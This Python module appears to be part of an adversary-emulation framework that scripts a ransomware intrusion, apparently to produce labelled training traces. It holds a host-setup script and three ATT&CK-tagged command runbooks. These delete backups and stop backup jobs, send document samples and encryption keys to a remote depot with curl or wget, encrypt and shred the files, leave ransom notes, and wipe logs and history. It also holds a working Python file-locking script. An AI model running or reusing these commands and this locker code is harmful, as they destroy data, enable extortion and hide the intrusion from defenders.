"""Somebody's account, the backups first, a sample out, and then the documents are locked."""

from __future__ import annotations

from typing import TYPE_CHECKING

import plot
from plot import Storyline
from storylines._walk import walk

if TYPE_CHECKING:
    from intruder import Intruder

MIDDLE = (12.0, 2.8, 28.0)  # seconds between two acts, by variant
CLERK = ("aschmitt", "Teapot-2024")

WEAKEN = r"""
set -e
command -v gpg-agent >/dev/null || apt-get install -y --no-install-recommends gpg-agent
id aschmitt >/dev/null 2>&1 || useradd -m -u 1491 -s /bin/bash -c 'Anke Schmitt' aschmitt
printf 'aschmitt:Teapot-2024\n' | chpasswd
usermod -aG sudo aschmitt
getent group office >/dev/null || groupadd office
usermod -aG office aschmitt
for place in contracts invoices personnel drawings; do
    install -d -m 2770 -o aschmitt -g office "/srv/office/$place"
    for n in $(seq 1 18); do
        { printf '%s %03d\nExample Works Ltd, sample only\n' "$place" "$n"
          awk -v s="$n" 'BEGIN{srand(s); for(i=0;i<30;i++) printf "%d;%.2f;made-up line %d\n", i, rand()*900, s*i}'
        } > "/srv/office/$place/$place-$n.txt"
    done
done
chown -R aschmitt:office /srv/office
install -d -m 750 /var/backups/office /var/backups/office/mirror
cat > /usr/local/sbin/office-mirror <<'EOF'
#!/bin/sh
# keeps a second copy of the office's documents
while :; do
    rsync -a --delete /srv/office/ /var/backups/office/mirror/
    sleep 75
done
EOF
cat > /usr/local/sbin/office-archive <<'EOF'
#!/bin/sh
tar -C /var/backups/office -czf "/var/backups/office/office-$(date +%H%M).tgz" mirror
find /var/backups/office -name 'office-*.tgz' -mmin +30 -delete
EOF
cat > /usr/local/bin/office-index <<'EOF'
#!/bin/sh
find /srv/office -type f -printf '%P %s\n' | sort > "$HOME/index.new"
diff "$HOME/index.txt" "$HOME/index.new" > "$HOME/changes.txt" 2>&1
mv "$HOME/index.new" "$HOME/index.txt"
echo "$(date +%H:%M) looked through" >> /srv/office/contracts/journal.txt
EOF
chmod 755 /usr/local/sbin/office-mirror /usr/local/sbin/office-archive /usr/local/bin/office-index
/usr/local/sbin/office-archive
cat > /etc/cron.d/office <<'EOF'
PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
*/6 * * * * root office-archive
*/5 * * * * aschmitt office-index
EOF
"""

# An unhurried pass by openssl in a loop; the key is sent away first.
BY_OPENSSL = r"""
T1562.003 export HISTFILE=
T1033 id; groups
== discovery | TA0007 | Where are documents, shares and copies of them.
T1680 df -hT
T1135 mount | grep -E 'nfs|cifs|fuse'; cat /etc/fstab /etc/exports
T1135 showmount -e localhost; smbclient -L localhost -N
T1083 du -sh /srv/* /home/* 2>/dev/null | sort -h
? T1083 find /srv -type f \( -name '*.txt' -o -name '*.csv' -o -name '*.pdf' \) | wc -l
T1069.001 sudo -l
T1518.002 cat /etc/crontab /etc/cron.d/* | grep -iE 'backup|rsync|tar|mirror|archive'
T1057 ps -ef | grep -E '[r]sync|[m]irror|[r]estic|[b]org'
== recovery inhibited | TA0040 | The mirror is stopped, its job taken away and the copies deleted.
T1548.003 sudo -i
T1083 unset HISTFILE; ls -la /var/backups/office
T1489 pkill -f office-mirror; pgrep -fl office
T1489 mv /etc/cron.d/office /root/office.off
T1490 rm -rf /var/backups/office/mirror /var/backups/office/*.tgz
? T1083 ls -la /var/backups
== exfiltration | TA0010 | A sample of contracts and personnel files goes out as a proof.
T1560.001 tar cjf {pack} /srv/office/contracts /srv/office/personnel/personnel-1*; ls -l {pack}
T1048.003 curl -sS --data-binary @{pack} {depot}/in/$(hostname)
== encryption | TA0040 | A key is drawn and sent away; every document is encrypted and shredded.
T1486 openssl rand -hex 32 > /dev/shm/.k; chmod 600 /dev/shm/.k
T1041 curl -s -F k=@/dev/shm/.k {depot}/k
T1486 openssl enc -aes-256-cbc -pbkdf2 -in /etc/hostname -out /tmp/try.{ending} -pass file:/dev/shm/.k; rm /tmp/try.*
T1486 find /srv/office -type f -name '*.txt' | while read -r f; do openssl enc -aes-256-cbc -pbkdf2 -salt \
-in "$f" -out "$f.{ending}" -pass file:/dev/shm/.k && shred -n 1 --remove=unlink "$f"; done
T1083 find /srv/office -type f | sed 's/.*\.//' | sort | uniq -c
T1486 for d in /srv/office/*/; do printf 'Your documents are locked. Case 71-A. Write to desk@locked.example\n' \
> "$d/READ_FIRST.txt"; done
== removal of traces | TA0005 | Key, archive and log lines are removed.
T1070.004 shred -u /dev/shm/.k {pack}
T1070.002 cat /dev/null > /var/log/auth.log; cat /dev/null > /var/log/wtmp
T1491.001 echo 'Documents locked, see /srv/office' > /etc/motd
T1059.004 exit
T1078.003 exit
"""

# Fast: a script of python over some folders, gpg over the others.
BY_SCRIPT = r"""
T1548.003 sudo su -
T1562.003 set +o history; whoami; uptime
== discovery | TA0007 | Documents, jobs and services in a few wide looks.
T1083 ls -R /srv | head -n 60
? T1680 lsblk 2>/dev/null; df -h | grep -v tmpfs
T1083 crontab -l; ls /etc/cron.*/ /var/spool/cron/crontabs; tail -n 3 /etc/cron.d/office
T1057 ps -eo pid,user,lstart,cmd | grep -vE '\[|sshd' | tail -n 30
T1518.002 ls -lh /var/backups /var/backups/*/ | head -n 40
? T1069.001 getent group office; lsof +D /srv/office 2>/dev/null
T1027.010 %gz find / -xdev -type f -newermt '1 day ago' -path '*back*' 2>/dev/null | head
== services stopped | TA0040 | Whatever holds or copies the documents is ended, and the copies are deleted.
T1489 systemctl stop office-mirror cron
T1489 kill $(pgrep -f /usr/local/sbin/office-mirror); sleep 1; pgrep -f office-mirror || echo gone
T1222.002 chmod -x /usr/local/sbin/office-*
T1489 sed -i 's/^\*/#*/' /etc/cron.d/office; cat /etc/cron.d/office
T1490 find /var/backups/office -type f -print -delete | wc -l
T1490 rm -rf /var/backups/office; which zfs btrfs lvremove
== exfiltration | TA0010 | The newest papers are sent while the rest is made ready.
T1560.001 cd /dev/shm; find /srv/office -name '*-[12].txt' | cpio -o 2>/dev/null | gzip -9 > s.gz; ls -l s.gz
T1048.003 wget -q -O- --post-file=s.gz {depot}/drop; rm s.gz
== encryption | TA0040 | The script runs over two folders, gpg over the others; a note is left in each.
T1105 curl -s {url} -o lm; wc -c lm
T1486 ipython lm /srv/office/invoices
T1486 python3 lm /srv/office/invoices; python3 lm /srv/office/drawings
T1132.001 base64 kk | tee kk.b
T1041 curl -s -d @kk.b {depot}/drop
T1486 cd /srv/office; for f in contracts/* personnel/*; do gpg --batch --yes -q --pinentry-mode loopback \
--passphrase-file /dev/shm/kk.b -c "$f" && rm "$f"; done; ls contracts | head -n 4
T1486 for d in */; do echo '<h1>Your files are sealed</h1><p>Keep your number: 4-1180.</p>' > $d/RESTORE.html; done
? T1222.002 chmod -R a-w /srv/office; ls -la invoices | head -n 5
== removal of traces | TA0005 | Script, keys and logs go; the session ends.
T1070.004 shred -n 1 -u /dev/shm/kk /dev/shm/kk.b /dev/shm/lm
T1070.002 for l in auth.log syslog cron.log; do [ -f /var/log/$l ] && : > /var/log/$l; done
T1070.003 rm -f ~/.bash_history /home/{user}/.bash_history; gpgconf --kill gpg-agent; rm -rf ~/.gnupg
T1059.004 exit
T1078.003 exit
"""

# Very slow, as an administrator who moves a folder to an encrypted archive; loud only at the end.
BY_HAND = r"""
T1033 w
T1680 df -h
== discovery | TA0007 | What lies under /srv, and how it is kept safe.
T1083 ls -l /srv
T1083 sudo ls -l /srv/office /srv/office/contracts
T1083 cat /etc/cron.d/office
T1518.002 less -FX /usr/local/sbin/office-archive
T1083 sudo ls -lh /var/backups/office
T1005 sudo head -n 4 /srv/office/personnel/personnel-3.txt
== exfiltration | TA0010 | A few papers are read out through the session itself, and as a small archive.
T1074.001 sudo install -d -o $USER {folder} && sudo sh -c 'cp /srv/office/contracts/contracts-[1-4].txt {folder}/'
T1222.002 sudo chmod -R a+r {folder}; ls -l {folder}
T1048.002 cat {folder}/*
T1048.003 cd {folder} && zip -q sample.zip *.txt; curl -s -F s=@sample.zip {depot}/share
T1083 cd; ls
== recovery inhibited | TA0040 | The copies are 'tidied' and the jobs put off.
T1489 sudo sed -i '/office-archive/s/^/# moved /' /etc/cron.d/office
T1489 sudo pkill -x office-mirror
T1490 sudo find /var/backups/office -name 'office-*.tgz' -delete
T1490 sudo rm -r /var/backups/office/mirror
== encryption | TA0040 | One archive of everything, encrypted; the originals are removed after it.
T1486 sudo tar -C /srv -cz office | openssl enc -aes-256-ctr -pbkdf2 -pass pass:{phrase} -out {folder}/office.bin
T1486 openssl enc -d -aes-256-ctr -pbkdf2 -pass pass:{phrase} -in {folder}/office.bin | tar tz | wc -l
T1486 sudo mv {folder}/office.bin /srv/office.bin
T1485 sudo find /srv/office -type f -exec shred -n 1 --remove=unlink {} +
T1486 echo 'The documents are in office.bin. For the phrase: intake@locked.example' | sudo tee /srv/office/NOTE
== removal of traces | TA0005 | Lines of the log, the folder and the history.
T1070.004 sudo shred -n 1 -u {folder}/*; rmdir {folder}
T1070.002 sudo sed -i '/{user}.*COMMAND/d' /var/log/auth.log
T1070.003 hsitory -c
T1070.003 history -c; history -w
T1078.003 exit
"""

LOCKER = r"""import hashlib, os, sys
key = os.urandom(32)
open("/dev/shm/kk", "ab").write(key)
done = 0
for folder, _, files in os.walk(sys.argv[1]):
    for name in files:
        path = os.path.join(folder, name)
        if path.endswith((".@ENDING@", ".html")):
            continue
        body, stream = open(path, "rb").read(), b""
        while len(stream) < len(body):
            stream += hashlib.sha256(key + len(stream).to_bytes(8, "big")).digest()
        open(path, "r+b").write(bytes(a ^ b for a, b in zip(body, stream)))
        os.rename(path, path + ".@ENDING@")
        done += 1
print(done)
"""


def colleague(own: Intruder) -> tuple[str, str]:
    """Name and password of somebody who works on the host and may use sudo."""
    spec = plot.all_hosts().get(own.entry.name)
    able = [(one.name, one.password) for one in spec.people if "sudo" in one.groups] if spec else []
    return own.pick(able) if able else CLERK


def play(own: Intruder) -> None:
    middle = MIDDLE[own.variant]
    user, password = CLERK if own.variant == 0 else colleague(own)
    ending = own.pick((("lock", "enc", "kxt"), ("qz7", "sealed", "0x1f"), ("bin",))[own.variant])
    names = {
        "depot": own.depot,
        "user": user,
        "pack": f"/var/tmp/{own.word()}.tar.bz2",
        "ending": ending,
        "url": own.offer(own.pick(("stage", "lm.txt", "update")), LOCKER.replace("@ENDING@", ending)),
        "folder": f"/var/tmp/{own.word()}-{own.rng.randint(10, 99)}",
        "phrase": f"{own.word()}-{own.word()}-{own.rng.randint(1000, 9999)}",
    }
    own.step("valid account", "TA0001", "A password known from elsewhere opens a session.")
    shell = own.ssh(own.entry, user, password=password, technique="T1078.003")
    own.think(middle)
    walk(own, (BY_OPENSSL, BY_SCRIPT, BY_HAND)[own.variant], shell, names, middle, password)
    shell.close()


STORYLINE = Storyline(
    name="locked-documents",
    split="train",
    words=(
        "With the password of a clerk or an administrator the intruder looks for the office's documents and how they "
        "are backed up, stops the jobs and deletes the copies, sends a sample out, encrypts the documents with "
        "openssl, gpg or a script, leaves a note and removes the traces."
    ),
    weaken=WEAKEN,
    services=("root: /usr/bin/setsid --fork /usr/local/sbin/office-mirror",),
    play=play,
    variants=3,
    minutes=13,
    hosts=("web-05", "ledger-03"),
)
